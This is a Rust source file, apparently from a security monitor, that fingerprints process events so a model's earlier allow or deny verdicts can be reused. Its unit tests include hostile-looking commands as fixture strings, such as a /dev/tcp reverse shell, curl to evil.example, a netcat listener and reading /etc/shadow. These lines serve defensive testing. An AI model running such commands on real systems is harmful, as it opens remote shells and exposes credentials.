// SPDX-License-Identifier: Apache-2.0
//! When two questions are the same.
//!
//! There are two answers to that. *Alike* ignores what changes from run to run and tells nothing: temporary names, ids,
//! long numbers. *Similar* ignores hosts and more numbers, too. What was allowed or left open once holds for what is alike;
//! only a denial holds for what is similar, so that nobody gets something allowed by asking for something similar first.

use std::sync::LazyLock;

use lictor_api::event::Event;
use regex::Regex;
use sha2::{Digest as _, Sha256};

use super::prompt;
use crate::case::Case;
use crate::tier::Finding;

/// A SHA-256, so that no text of a case, secret or not, is kept.
pub type Key = [u8; 32];

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Fingerprint {
    pub alike: Key,
    pub similar: Key,
}

impl Fingerprint {
    /// Of `case` after `before`, as `model` would be asked.
    #[must_use]
    pub fn new(case: &Case, before: &[Finding], model: &str) -> Fingerprint {
        let facts = facts(case, before, model);
        let key = |normal: fn(&str) -> String| {
            let mut hash = Sha256::new();
            for fact in &facts {
                let fact = normal(fact);
                // Lengths keep ["a", "bc"] and ["ab", "c"] apart.
                hash.update((fact.len() as u64).to_le_bytes());
                hash.update(fact.as_bytes());
            }
            hash.finalize().into()
        };
        Fingerprint { alike: key(alike), similar: key(similar) }
    }
}

/// Everything that the answer may depend on, in a fixed order, with a place for what is absent.
fn facts(case: &Case, before: &[Finding], model: &str) -> Vec<String> {
    let event = &case.event;
    let process = &event.process;
    let mut facts = vec![prompt::VERSION.to_string(), model.to_owned(), event.kind.to_string(), event.operation()];
    let mut one = |fact: Option<&String>| facts.push(fact.map_or_else(|| "-".to_owned(), |fact| format!("={fact}")));
    one(event.agent.as_ref());
    one(process.exe.as_ref());
    one(process.cwd.as_ref());
    one(process.cmdline.as_ref().filter(|_| process.args.is_none()));
    one(process.uid.map(|uid| uid.to_string()).as_ref());
    one(process.container.as_ref().map(|_| "container".to_owned()).as_ref());
    let exec = event.exec.as_ref();
    one(exec.and_then(|exec| exec.path.as_ref()));
    one(exec.and_then(|exec| exec.interpreter.as_ref()));
    // Written so that no rule for long numbers touches it.
    one(exec.and_then(|exec| exec.sha256.as_ref()).map(|hash| spelled(hash)).as_ref());
    one(object(event).as_ref());
    if let Some(network) = &event.network {
        one(network.family.as_ref());
        one(network.protocol.as_ref());
    }
    let list = |facts: &mut Vec<String>, args: Option<&Vec<String>>| {
        facts.push(args.map_or_else(|| "-".to_owned(), |args| args.len().to_string()));
        facts.extend(args.into_iter().flatten().cloned());
    };
    list(&mut facts, process.args.as_ref());
    for ancestor in process.parent.iter().chain(&process.ancestors) {
        facts.push(ancestor.exe.clone().unwrap_or_default());
        list(&mut facts, ancestor.args.as_ref());
    }
    let mut found: Vec<String> = before.iter().map(|finding| format!("{}/{}", finding.tier, finding.rule)).collect();
    // What the session did before counts as far as somebody found something in it.
    let earlier = case.recent.iter().filter_map(|event| event.verdict.as_ref());
    found.extend(
        earlier.flat_map(|verdict| verdict.rule.iter().chain(&verdict.also)).map(|rule| format!("before/{rule}")),
    );
    found.sort_unstable();
    found.dedup();
    facts.extend(found);
    facts
}

fn object(event: &Event) -> Option<String> {
    (event.exec.is_none()).then(|| event.object())
}

/// Hexadecimal digits as letters.
fn spelled(hash: &str) -> String {
    hash.chars()
        .map(|digit| digit.to_digit(16).and_then(|value| char::from_u32('g' as u32 + value)).unwrap_or(digit))
        .collect()
}

#[expect(clippy::unwrap_used, reason = "constant patterns, compiled by every test")]
static ALIKE: LazyLock<Vec<(Regex, &str)>> = LazyLock::new(|| {
    [
        // A path component below a temporary directory, with a part of six or more that no person would choose.
        (r"(?P<d>/(?:var/)?tmp/)(?P<p>[A-Za-z0-9_.-]*?)(?:[A-Za-z_]*[0-9][A-Za-z0-9_]{5,}|[A-Za-z0-9_]{5,}[0-9][A-Za-z_]*|[a-z]+[A-Z][A-Za-z0-9]{3,}|[A-Z][a-z]+[A-Z][A-Za-z0-9]{3,})(?P<e>\.[a-z]{1,4})?\b", "${d}${p}<tmp>${e}"),
        (r"\b[0-9a-fA-F]{8}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{4}-[0-9a-fA-F]{12}\b", "<id>"),
        (r"\b(?:[0-9]+[a-f]|[a-f]+[0-9])[0-9a-f]{10,}\b", "<id>"),
        (r"/proc/[0-9]+\b", "/proc/<n>"),
        (r"\b[1-9][0-9]{5,}\b", "<n>"),
    ]
    .map(|(pattern, by)| (Regex::new(pattern).unwrap(), by))
    .into()
});

#[expect(clippy::unwrap_used, reason = "constant patterns, compiled by every test")]
static SIMILAR: LazyLock<Vec<(Regex, &str)>> = LazyLock::new(|| {
    [
        (
            r"(?i)(?P<s>\b[a-z][a-z0-9+.-]*://)(?:[^\s/?#@\x22']*@)?(?:\[[0-9a-f:.]+\]|[^\s/:?#\x22'|;&)]+)",
            "${s}<host>",
        ),
        (r"(?P<s>/dev/(?:tcp|udp)/)[^\s/]+", "${s}<host>"),
        (r"\b[0-9]{1,3}(?:\.[0-9]{1,3}){3}\b", "<host>"),
        (r"(?i)(?P<s>\b[a-z0-9_-]+@)[a-z0-9-]+(?:\.[a-z0-9-]+)+\b", "${s}<host>"),
        // Four digits can be the mode of a file: 4755 is not 1755. With an 8 or 9 they cannot.
        (r"\b(?:[1-9][0-9]{4,}|[1-9][0-9]{0,2}[89][0-9]{0,2})\b", "<n>"),
    ]
    .map(|(pattern, by)| (Regex::new(pattern).unwrap(), by))
    .into()
});

fn replace(text: &str, rules: &[(Regex, &str)]) -> String {
    rules.iter().fold(text.to_owned(), |text, (regex, by)| match regex.replace_all(&text, *by) {
        std::borrow::Cow::Borrowed(_) => text,
        std::borrow::Cow::Owned(changed) => changed,
    })
}

fn alike(fact: &str) -> String {
    replace(fact, &ALIKE)
}

fn similar(fact: &str) -> String {
    replace(&alike(fact), &SIMILAR)
}

#[cfg(test)]
mod tests {
    use super::*;
    use lictor_api::event::Kind;

    fn fingerprint(line: &str) -> Fingerprint {
        let mut event = Event::new(Kind::Exec, String::new(), String::new());
        event.process.args = Some(line.split(' ').map(str::to_owned).collect());
        Fingerprint::new(&Case::new(event), &[], "m")
    }

    #[test]
    fn what_tells_nothing_makes_no_difference() {
        for (one, other) in [
            ("as -o /tmp/ccQx81Zb.o /tmp/ccAb12Yz.s", "as -o /tmp/cc91kXyZ.o /tmp/cclM3nOp.s"),
            ("bash /tmp/tmp.Ab3dEf9hIj/run.sh", "bash /tmp/tmp.Zz8yXx7wVv/run.sh"),
            ("cat /proc/4242/status", "cat /proc/17/status"),
            ("tool --run 550e8400-e29b-41d4-a716-446655440000", "tool --run 123e4567-e89b-12d3-a456-426614174000"),
            ("touch -d @1767323045 x", "touch -d @1767323999 x"),
        ] {
            assert_eq!(fingerprint(one), fingerprint(other), "{one} / {other}");
        }
    }

    #[test]
    fn only_a_denial_covers_other_hosts() {
        for (one, other) in [
            ("curl http://good.example/x", "curl http://evil.example/x"),
            ("curl http://10.0.0.1:8080/x", "curl http://[::1]:8080/x"),
            ("nc 10.0.0.1 4", "nc 10.0.0.2 4"),
            ("ssh root@a.example", "ssh root@b.example"),
            ("sh -i>&/dev/tcp/a/9", "sh -i>&/dev/tcp/b/9"),
            ("nc -l 31337", "nc -l 31338"),
        ] {
            assert_ne!(fingerprint(one).alike, fingerprint(other).alike, "{one} / {other}");
            assert_eq!(fingerprint(one).similar, fingerprint(other).similar, "{one} / {other}");
        }
    }

    #[test]
    fn what_matters_makes_a_difference() {
        for (one, other) in [
            ("chmod 4755 x", "chmod 755 x"),
            ("chmod 755 x", "chmod 777 x"),
            ("kill -9 1", "kill -9 42"),
            ("python setup.py", "python evil.py"),
            ("cat /etc/passwd", "cat /etc/shadow"),
            ("cat /tmp/notes", "cat /tmp/secrets"),
            ("a bc", "ab c"),
            ("rm x", "rm x y"),
        ] {
            assert_ne!(fingerprint(one).similar, fingerprint(other).similar, "{one} / {other}");
        }
        let with = |hash: &str| {
            let mut event = Event::new(Kind::Exec, String::new(), String::new());
            event.exec = Some(lictor_api::event::Exec { sha256: Some(hash.to_owned()), ..Default::default() });
            Fingerprint::new(&Case::new(event), &[], "m")
        };
        assert_ne!(with(&"a1".repeat(32)).similar, with(&"b2".repeat(32)).similar, "the file is another");
    }

    #[test]
    fn findings_and_the_model_are_part_of_the_question() {
        let case = Case::new(Event::new(Kind::Exec, String::new(), String::new()));
        let plain = Fingerprint::new(&case, &[], "m");
        assert_ne!(plain, Fingerprint::new(&case, &[], "n"));
        let mut after = case.clone();
        let mut earlier = Event::new(Kind::File, String::new(), String::new());
        after.recent.push(earlier.clone());
        assert_eq!(plain, Fingerprint::new(&after, &[], "m"), "an earlier event in which nothing was found");
        let mut verdict =
            lictor_api::event::Verdict::new(lictor_api::event::Action::Alert, lictor_api::event::Tier::Rules);
        verdict.rule = Some("reads-keys".into());
        earlier.verdict = Some(verdict);
        after.recent.push(earlier);
        assert_ne!(plain, Fingerprint::new(&after, &[], "m"));
    }
}
